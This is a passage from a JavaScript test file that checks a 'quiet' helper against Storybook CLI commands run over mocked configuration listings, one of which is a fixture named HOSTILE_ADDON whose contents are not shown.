      quiet('storybook dev -p 6006', withListings({ '.storybook/main.ts': MAIN('@storybook/addon-a11y') })),
    ).toBe(true);
    expect(
      quiet(
        'storybook dev',
        withListings({
          '.storybook/main.ts': MAIN('./addons/sync/preset.cjs'),
          '.storybook/addons/sync/preset.cjs': 'module.exports = { managerEntries: [] };\n',
        }),
      ),
    ).toBe(true);
    expect(quiet('storybook --version', withListings({ '.storybook/main.js': HOSTILE_ADDON }))).toBe(true);
  });
});
